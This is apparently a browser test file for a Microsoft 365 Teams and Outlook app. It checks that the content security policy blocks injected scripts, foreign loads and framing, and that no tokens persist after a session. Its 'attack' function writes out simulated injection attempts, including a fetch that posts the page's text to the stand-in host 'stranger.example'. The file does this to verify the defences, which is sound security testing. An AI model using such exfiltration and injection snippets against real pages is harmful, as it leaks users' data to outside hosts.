import { leadOf } from '#sandbox/cohort/seedCohort.ts';
import { appOrigin, expect, journey, type Microsoft365, type OpenFrame } from './microsoft365.ts';

const stranger = 'https://stranger.example';

const surfaces = {
  'the personal tab': ({ openTeams }, person) => openTeams(person),
  'the meeting panel': ({ openTeams }, person) => openTeams(person, { surface: 'panel' }),
  'the admin page': ({ openTeams }, person) => openTeams(person, { surface: 'admin' }),
  'the pane in Outlook': ({ openOutlook }, person) => openOutlook(person),
} satisfies Record<string, (microsoft365: Microsoft365, person: string) => Promise<OpenFrame>>;

for (const [name, open] of Object.entries(surfaces)) {
  journey(`${name} runs nobody else’s script and talks to nobody else`, async ({ context, microsoft365 }) => {
    const asked: string[] = [];
    await context.route(`${stranger}/**`, (route) => {
      asked.push(route.request().url());
      return route.abort();
    });
    const { app } = await open(microsoft365, leadOf(microsoft365.tenant));
    await expect(app.getByRole('heading').first()).toBeVisible();
    expect(microsoft365.takeFaults()).toEqual([]);
    // Somebody is signed in by now, and nothing of it outlives the session.
    expect(await app.evaluate(keptForGood)).toEqual({ cookies: '', local: [] });

    for (const [attempt, directives] of Object.entries(attempts)) {
      await app.evaluate(attack, { attempt, stranger });
      await expect
        .poll(() =>
          microsoft365.takeFaults().filter((fault) => directives.some((directive) => fault.includes(directive))),
        )
        .not.toEqual([]);
    }

    expect(await app.evaluate(() => Reflect.get(globalThis, 'isHarmed'))).toBeUndefined();
    expect(asked).toEqual([]);
    microsoft365.takeFaults();
  });
}

/** Runs in the page. What a browser keeps when its session is over, but for our two databases, which hold no token. */
function keptForGood() {
  const names = Array.from({ length: localStorage.length }, (_, index) => localStorage.key(index) ?? '');
  const local = names.map((name) => `${name}: ${localStorage.getItem(name) ?? ''}`);
  return { cookies: document.cookie, local: local.filter((kept) => /token|secret|\beyJ/i.test(kept)) };
}

/** What a stranger’s script or text would try, and which parts of the policy may stop it: pages with trusted types stop some of it sooner. */
const attempts: Readonly<Record<string, readonly string[]>> = {
  inlineScript: ['script-src', 'require-trusted-types-for'],
  inlineHandler: ['script-src', 'require-trusted-types-for'],
  evaluation: ['script-src', 'require-trusted-types-for'],
  foreignScript: ['script-src', 'require-trusted-types-for'],
  scriptFromMemory: ['script-src', 'worker-src', 'require-trusted-types-for'],
  inlineStyle: ['style-src'],
  foreignFetch: ['connect-src'],
  foreignSocket: ['connect-src'],
  foreignImage: ['img-src'],
  foreignFrame: ['frame-src'],
  foreignForm: ['form-action'],
  foreignBase: ['base-uri'],
};

/** Runs in the page. What a person’s text could do if it were taken for markup, or a library if it were somebody else’s. */
function attack({ attempt, stranger }: { readonly attempt: string; readonly stranger: string }): void {
  const add = (name: string, attributes: Readonly<Record<string, string>>, text = ''): HTMLElement => {
    const element = document.createElement(name);
    for (const [attribute, value] of Object.entries(attributes)) {
      element.setAttribute(attribute, value);
    }
    element.append(text);
    document.body.append(element);
    return element;
  };
  const harm = 'globalThis.isHarmed = true';
  const tries: Readonly<Record<string, () => unknown>> = {
    inlineScript: () => add('script', {}, harm),
    inlineHandler: () => add('button', { onclick: harm }).click(),
    evaluation: () => (Reflect.get(globalThis, 'eval') as (code: string) => void)(harm),
    foreignScript: () => add('script', { src: `${stranger}/harm.js` }),
    scriptFromMemory: () => new Worker(URL.createObjectURL(new Blob([harm]))),
    inlineStyle: () => add('style', {}, `body { background: url(${stranger}/seen.png) }`),
    foreignFetch: () => fetch(`${stranger}/words`, { method: 'POST', body: document.body.textContent }),
    foreignSocket: () => new WebSocket(`${stranger.replace('https', 'wss')}/words`),
    foreignImage: () => add('img', { src: `${stranger}/seen.png` }),
    foreignFrame: () => add('iframe', { src: `${stranger}/page` }),
    foreignForm: () => (add('form', { action: `${stranger}/words`, method: 'post' }) as HTMLFormElement).submit(),
    foreignBase: () => add('base', { href: `${stranger}/` }),
  };
  // Not at once: what a browser’s tools evaluate is allowed more than what a page does by itself.
  setTimeout(() => {
    try {
      Promise.resolve(tries[attempt]?.()).catch(() => undefined);
    } catch {
      // Refused, which is reported as a violation.
    }
  }, 1);
}

journey('a stranger’s page cannot show the app inside itself', async ({ context, microsoft365 }) => {
  await context.route(`${stranger}/**`, (route) =>
    route.fulfill({ contentType: 'text/html', body: `<iframe id="app" src="${appOrigin}/tab.html"></iframe>` }),
  );
  const host = await context.newPage();
  const answered = host.waitForResponse(`${appOrigin}/tab.html`);
  await host.goto(`${stranger}/`);
  expect((await answered).status()).toBe(200);
  await expect.poll(() => host.frames().map((frame) => frame.url())).toContain('chrome-error://chromewebdata/');
  expect(microsoft365.takeFaults()).toEqual([]);
});
